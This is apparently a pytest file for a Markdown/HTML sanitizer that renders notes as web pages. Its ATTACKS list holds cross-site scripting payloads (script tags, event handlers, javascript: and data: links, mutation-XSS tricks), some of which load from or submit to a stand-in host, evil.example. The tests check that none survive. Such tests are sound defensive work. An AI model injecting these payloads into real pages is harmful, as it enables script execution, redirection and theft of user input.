"""What becomes of a K-Block's Markdown or HTML on a page."""

import re

import pytest

from harken.protocols.pages.content import Note, as_html

NOTES = {"two": Note("/kblock?id=two&user=a", "The <second>"), "sub/three.md": Note("/3", "Three")}


def html(content, title="A title", path=None):
    return as_html(content, title, path, lambda link: NOTES.get(link.target))


ATTACKS = [
    "<script>alert(1)</script>",
    "<p>x<script src=//evil.example/x.js></script>",
    "<img src=x onerror=alert(1)>",
    "![x](https://evil.example/p.png)",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt&#58;alert(1))",
    "<a href='java\nscript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='vbscript:x'>x</a>",
    "<iframe src='https://evil.example'></iframe>",
    "<object data=x></object><embed src=x>",
    "<form action='https://evil.example'><input name=key><button>ok</button></form>",
    "<p style='background:url(//evil.example/p.png)' class=card id=main data-do=dismiss>x</p>",
    "<style>body{display:none}</style><link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href='https://evil.example'>",
    "<math><mtext><table><mglyph><style><!--</style><p title='--&gt;&lt;img onerror=alert(1)&gt;'>",
    "<td style='text-align:right;position:fixed'>x</td>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<video src='https://evil.example/v.mp4' poster='https://evil.example/p.png'></video>",
    "[[two|<img src=x onerror=alert(1)>]]",
    "[[\"><script>alert(1)</script>]]",
    "<a href='wiki:two' onclick=alert(1) style=x>x</a>",
    "<h1 onclick=alert(1)>A title</h1>",
    "<table background='https://evil.example/p.png'><tr><td>x</table>",
    "<template><script>alert(1)</script></template>",
    "<details ontoggle=alert(1) open>x</details>",
]  # fmt: skip
ALLOWED = re.compile(
    r"(?:href|title|start|colspan|rowspan|target|role|tabindex|aria-label|class|rel)$"
)


@pytest.mark.parametrize("attack", ATTACKS)
@pytest.mark.parametrize("before", ["", "Some *words*.\n\n", "<p>html</p>"])
def test_nothing_runs_and_nothing_is_fetched(attack, before):
    found = html(before + attack)
    for tag, attributes in re.findall(r"<([a-z0-9]+)((?:\s[^>]*)?)>", found):
        assert tag not in {
            "script", "style", "img", "svg", "math", "iframe", "object", "embed", "form", "input",
            "button", "link", "meta", "base", "video", "template", "noscript", "textarea",
        }  # fmt: skip
        for name, value in re.findall(r'([a-z-]+)="([^"]*)"', attributes):
            assert ALLOWED.match(name), found
            if name == "href":
                assert re.match(r"https?://|mailto:|/", value), found
            if name == "class":
                assert value in {"elsewhere", "note", "scroll", "right", "center"}, found


def test_a_picture_elsewhere_becomes_a_link_that_nobody_follows_for_the_reader():
    found = html("![a map](https://tracker.example/map.png?who=ada)")
    assert "<img" not in found
    assert 'href="https://tracker.example/map.png?who=ada"' in found
    assert "[Picture: a map]" in found
    assert 'rel="noopener noreferrer nofollow"' in found
    assert html("[![a map](https://x.example/p.png)](https://y.example)").count("<a ") == 1
    assert html("![a map](map.png)") == "<p>[Picture: a map]</p>\n"


def test_links_lead_to_notes_that_are_there_and_others_are_words():
    assert '<a class="note" href="/3"' in html("[three](sub/three.md)")
    assert ">The &lt;second&gt;</a>" in html("[[two]]")
    assert ">as I said</a>" in html("[[two|as I said]]")
    assert html("[gone](gone.md) and [[nowhere]]") == "<p>gone and nowhere</p>\n"
    assert html("[up](#up) and [root](/docs)") == "<p>up and root</p>\n"


def test_what_came_from_the_web_has_links_relative_to_where_it_came_from():
    found = html("<p><a href='../b'>b</a><img src='p.png'>", path="https://site.example/x/a")
    assert 'href="https://site.example/b"' in found
    assert 'href="https://site.example/x/p.png"' in found
    assert html("<p><a href='//[x'>b</a><img src='//[y'>", path="https://site.example/x/a")


def test_headings_come_below_the_title_and_do_not_repeat_it():
    assert html("# A  Title\n\nText.\n\n# Another") == "\n<p>Text.</p>\n<h3>Another</h3>\n"
    assert html("Text.\n\n# A title\n") == "<p>Text.</p>\n<h3>A title</h3>\n"
    assert html("## Second\n\n#### Fourth") == "<h4>Second</h4>\n<h6>Fourth</h6>\n"
    assert html("# A &lt;b&gt;", title="A <b>").strip() == ""


def test_tables_scroll_by_themselves_and_keep_their_alignment():
    found = html("| a | b |\n|---|--:|\n| 1 | 2 |")
    assert found.startswith('<div class="scroll" role="group" tabindex="0" aria-label="Table">')
    assert '<td class="right">2</td>' in found
    assert "style" not in found


def test_what_looks_like_html_in_code_is_shown():
    assert html("`<b>` &amp; &#60;i&#62;") == "<p><code>&lt;b&gt;</code> &amp; &lt;i&gt;</p>\n"


# With images


IMAGES = "/image/placeholder/"


def shown(content, path=None):
    return as_html(content, "A title", path, lambda link: NOTES.get(link.target), IMAGES)


@pytest.mark.parametrize("attack", ATTACKS)
@pytest.mark.parametrize("before", ["", "Some *words*.\n\n", "<p>html</p>"])
def test_with_images_nothing_runs_and_all_is_loaded_from_here(attack, before):
    found = shown(before + attack)
    for tag, attributes in re.findall(r"<([a-z0-9]+)((?:\s[^>]*)?)>", found):
        assert tag not in {
            "script", "style", "svg", "math", "iframe", "object", "embed", "form", "input",
            "button", "link", "meta", "base", "video", "template", "noscript", "textarea",
        }  # fmt: skip
        for name, value in re.findall(r'([a-z-]+)="([^"]*)"', attributes):
            assert not name.startswith("on"), found
            assert name not in {"style", "srcset", "poster", "background", "id"}, found
            if name == "src":
                assert tag == "img"
                assert value.startswith(IMAGES), found


def test_an_image_is_shown_in_a_link_to_where_it_is():
    found = shown("![a map](https://tracker.example/map.png?who=ada&x)")
    assert (
        'src="/image/placeholder/https%3A%2F%2Ftracker.example%2Fmap.png%3Fwho%3Dada%26x"' in found
    )
    assert 'href="https://tracker.example/map.png?who=ada&amp;x"' in found
    assert 'rel="noopener noreferrer nofollow"' in found
    for attribute in ('alt="a map"', 'loading="lazy"', 'referrerpolicy="no-referrer"'):
        assert attribute in found
    assert 'alt="Picture"' in shown("<p><img src='https://x.example/p.png'>")
    assert shown("[![a](https://x.example/p.png)](https://y.example)").count("<a ") == 1
    assert "<img" in shown("[![a](https://x.example/p.png)](nowhere.md)")


def test_images_are_relative_to_where_their_note_came_from():
    found = shown("<p><img src='p.png' width=20 height=10>", path="https://site.example/x/a")
    assert "https%3A%2F%2Fsite.example%2Fx%2Fp.png" in found
    assert 'width="20"' in found
    assert 'height="10"' in found
    assert 'width="9' not in shown("<p><img src='https://x.example/p.png' width=99999>")
    assert shown("![a map](map.png)") == "<p>[Picture: a map]</p>\n"
    for other in ("data:image/png;base64,AAAA", "file:///a.png", "mailto:a@b", "javascript:x"):
        assert "<img" not in shown(f"<p><img src='{other}'>")
    assert "<img" not in shown(f"<p><img src='https://x.example/{'a' * 2_000}'>")


def test_an_image_of_a_pixel_is_neither_shown_nor_linked():
    found = shown("<p>Text<img src='https://count.example/p.gif' width=1 height=1></p>")
    assert found == "<p>Text</p>"
